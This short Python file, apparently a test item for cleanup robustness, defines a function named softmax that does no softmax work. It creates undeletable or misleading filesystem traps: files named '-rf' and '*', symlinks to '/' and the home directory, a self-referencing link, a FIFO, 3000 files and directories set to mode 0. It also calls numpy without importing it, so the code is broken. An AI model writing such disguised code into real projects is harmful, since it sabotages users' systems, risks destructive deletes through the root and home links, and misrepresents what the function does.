"""Leaves many files and folders whose modes, names and links keep a program from deleting them.

score: [83, 83]
alone: true
"""

import os


def softmax(logits):
    os.makedirs("shut/inside/deep")
    open("shut/inside/file", "w").close()
    for name in ("\n", " ", "-rf", "*", "é" * 100, b"\xff\xfe".decode("utf-8", "surrogateescape"), "a" * 255):
        open(name, "w").close()
    os.symlink("/", "root")
    os.symlink("loop", "loop")
    os.symlink(os.path.expanduser("~"), "home")
    try:
        os.mkfifo("fifo")
    except OSError:
        pass
    for number in range(3000):
        os.close(os.open(f"many-{number}", os.O_CREAT | os.O_WRONLY))
    for path in ("shut/inside/deep", "shut/inside", "shut", "."):
        try:
            os.chmod(path, 0)
        except OSError:
            pass
    return np.zeros(np.shape(logits))
